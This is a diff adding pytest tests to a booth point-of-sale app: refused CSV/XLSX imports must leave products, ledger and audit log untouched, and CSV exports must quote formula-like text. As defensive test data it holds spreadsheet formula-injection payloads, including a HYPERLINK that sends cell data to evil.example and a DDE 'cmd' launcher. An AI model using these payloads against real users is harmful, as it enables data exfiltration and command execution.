@@ -6,9 +6,12 @@ import io
 
 import pytest
 import sqlalchemy as sa
+from openpyxl import Workbook
 
+from pos.auth.models import AuditEntry
 from pos.inventory.models import Product, StockMovement
 from tests import factories
+from tests.pages import english, flashes, sign_in, text
 
 
 @pytest.fixture
@@ -90,6 +93,152 @@ def test_an_import_updates_by_sku_and_ledgers_the_new_stock(client, db, booth):
     assert (last.kind, last.delta, last.stock_after) == ("import", 4, 9)
 
 
+# --- a refused import leaves the products it would have updated as they were ------------
+
+# Valid rows change the booth's existing products (a new name, price and stock; a rejected
+# product's name, which would send it back for review; a painting's price), a valid new
+# product comes between them, and one row is wrong: for a one-of-a-kind painting a stock
+# of 2, after its new price was read, and a price no one can read.
+UPDATE_ROWS = [
+    ["B12-1", "Keben besar", "craft", 125000, 9],
+    ["NEW-1", "Tas baru", "craft", 85000, 3],
+    ["B12-REJ", "Sokasi diperbaiki", "craft", 60000, 2],
+    ["B12-ART", "Sawah Jatiluwih", "painting", 6000000, 2],
+    ["B12-2", "Topi", "craft", "murah", 4],
+]
+UPDATE_ERRORS = [
+    {"row": 5, "column": "stock", "message": "A one-of-a-kind item has a stock of 0 or 1."},
+    {"row": 6, "column": "price", "message": "price must be a whole number, not 'murah'."},
+]
+
+
+def update_file(kind: str) -> tuple[bytes, str]:
+    header = ["sku", "name", "category", "price", "stock"]
+    if kind == "csv":
+        lines = [",".join(header)] + [",".join(str(v) for v in row) for row in UPDATE_ROWS]
+        return ("\n".join(lines) + "\n").encode(), "katalog.csv"
+    book = Workbook()
+    book.active.append(header)
+    for row in UPDATE_ROWS:
+        book.active.append(row)
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue(), "katalog.xlsx"
+
+
+def booth_snapshot(db, exhibitor_id: int) -> dict:
+    """Everything of the booth's catalogue an import could touch: each product's fields,
+    its stock ledger, and the audit log."""
+    db.session.rollback()  # read what requests committed, not an old snapshot
+    columns = list(Product.__table__.columns)
+    return {
+        "products": sorted(
+            tuple(row)
+            for row in db.session.execute(
+                sa.select(*columns).where(Product.exhibitor_id == exhibitor_id)
+            )
+        ),
+        "ledger": sorted(
+            tuple(row)
+            for row in db.session.execute(
+                sa.select(
+                    StockMovement.id,
+                    StockMovement.product_id,
+                    StockMovement.kind,
+                    StockMovement.delta,
+                    StockMovement.stock_after,
+                ).where(StockMovement.exhibitor_id == exhibitor_id)
+            )
+        ),
+        "audit": sorted(
+            tuple(row)
+            for row in db.session.execute(
+                sa.select(AuditEntry.id, AuditEntry.action, AuditEntry.details)
+            )
+        ),
+    }
+
+
+@pytest.fixture
+def stocked_booth(db, booth):
+    """The booth with a product more: one the organizer rejected."""
+    rejected = factories.make_product(
+        booth.exhibitor, booth.manager, sku="B12-REJ", name="Sokasi", price=50_000, stock=4
+    )
+    factories.make_product(booth.exhibitor, booth.manager, sku="B12-2", name="Topi", stock=6)
+    rejected.review_status, rejected.review_note = "rejected", "Foto buram"
+    db.session.commit()
+    return booth
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_a_refused_import_leaves_every_product_it_updates_and_its_ledger_as_it_was(
+    client, db, stocked_booth, kind
+):
+    booth = stocked_booth
+    headers = factories.auth_headers(client, booth.manager)
+    before = booth_snapshot(db, booth.exhibitor.id)
+    content, filename = update_file(kind)
+    response = client.post(
+        f"/api/v1/products/import?exhibitor_id={booth.exhibitor.id}",
+        data={"file": (io.BytesIO(content), filename)},
+        content_type="multipart/form-data",
+        headers=headers,
+    )
+    assert response.status_code == 422
+    assert response.get_json() == {
+        "error": "import_invalid",
+        "message": "Nothing was imported: 2 problem(s) in the file.",
+        "created": 0,
+        "updated": 0,
+        "errors": UPDATE_ERRORS,
+    }
+    assert booth_snapshot(db, booth.exhibitor.id) == before
+    # Nothing is left locked or half-done: the file put right imports whole.
+    UPDATE_ROWS[3][4], UPDATE_ROWS[4][3] = 1, 20000
+    try:
+        fixed, filename = update_file(kind)
+    finally:
+        UPDATE_ROWS[3][4], UPDATE_ROWS[4][3] = 2, "murah"
+    again = client.post(
+        f"/api/v1/products/import?exhibitor_id={booth.exhibitor.id}",
+        data={"file": (io.BytesIO(fixed), filename)},
+        content_type="multipart/form-data",
+        headers=headers,
+    )
+    assert again.get_json() == {"created": 1, "updated": 4, "errors": []}
+    made = products(db, booth.exhibitor.id)
+    assert (made["B12-1"].name, made["B12-1"].price, made["B12-1"].stock) == (
+        "Keben besar",
+        125_000,
+        9,
+    )
+    assert made["B12-REJ"].review_status == "pending"
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_a_refused_import_on_the_page_leaves_every_product_it_updates_as_it_was(
+    client, db, stocked_booth, kind
+):
+    booth = stocked_booth
+    english(booth.manager)
+    sign_in(client, booth.manager)
+    before = booth_snapshot(db, booth.exhibitor.id)
+    content, filename = update_file(kind)
+    response = client.post(
+        "/products/import",
+        data={"file": (io.BytesIO(content), filename)},
+        content_type="multipart/form-data",
+    )
+    assert response.status_code == 422
+    html = text(response)
+    assert "Nothing was imported: 2 problems in the file." in html
+    assert flashes(html, "success") == []
+    assert booth_snapshot(db, booth.exhibitor.id) == before
+    listed = text(client.get("/products"))
+    assert "Keben besar" not in listed and "Sokasi diperbaiki" not in listed
+
+
 @pytest.mark.parametrize(
     ("text", "row", "column"),
     [
@@ -167,3 +316,46 @@ def test_one_pass_lists_the_unreadable_rows_and_the_rule_breaking_ones_in_row_or
     found = [(e["row"], e["column"]) for e in response.get_json()["errors"]]
     assert found == [(3, "price"), (4, "weaving"), (5, "name")]
     assert "EN-1" not in products(db, booth.exhibitor.id)
+
+
+# Texts that a spreadsheet would run as a formula, and texts that begin with a quote.
+FORMULA_LIKE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+62 812 555",
+    "-2+3",
+    "'=already quoted",
+    "''two quotes",
+    "'s Gravenhage",
+]
+
+
+def test_an_export_quotes_formula_like_text_and_imports_back_unchanged(client, db, booth):
+    for number, name in enumerate(FORMULA_LIKE):
+        factories.make_product(
+            booth.exhibitor, booth.manager, sku=f"F-{number}", name=name, category="painting",
+            description="=1+1", attributes={"artist": "@Made", "medium": "-", "year": 2019},
+        )  # fmt: skip
+    headers = factories.auth_headers(client, booth.manager)
+    exported = client.get(
+        f"/api/v1/products/export.csv?exhibitor_id={booth.exhibitor.id}", headers=headers
+    ).get_data(as_text=True)
+    rows = {r["sku"]: r for r in csv.DictReader(io.StringIO(exported))}
+    assert [rows[f"F-{n}"]["name"] for n in range(len(FORMULA_LIKE))] == [
+        "'" + name for name in FORMULA_LIKE[:6]
+    ] + ["'s Gravenhage"]
+    assert rows["F-0"]["description"] == "'=1+1"
+    assert (rows["F-0"]["artist"], rows["F-0"]["medium"]) == ("'@Made", "'-")
+    assert rows["F-0"]["year"] == "2019" and rows["F-0"]["price"] == "100000"
+
+    # Imported again: nothing changes.
+    again = upload(client, booth.manager, booth.exhibitor.id, exported)
+    assert again.get_json() == {"created": 0, "updated": 0, "errors": []}
+    # Imported into another booth: the same texts, not the quoted ones.
+    other = factories.Booth(booth.exhibitor.event, "C07")
+    created = upload(client, other.manager, other.exhibitor.id, exported)
+    assert created.get_json()["created"] == len(FORMULA_LIKE) + 2
+    made = products(db, other.exhibitor.id)
+    assert [made[f"F-{n}"].name for n in range(len(FORMULA_LIKE))] == FORMULA_LIKE
+    assert made["F-0"].description == "=1+1"
+    assert made["F-0"].attributes == {"artist": "@Made", "medium": "-", "year": 2019}
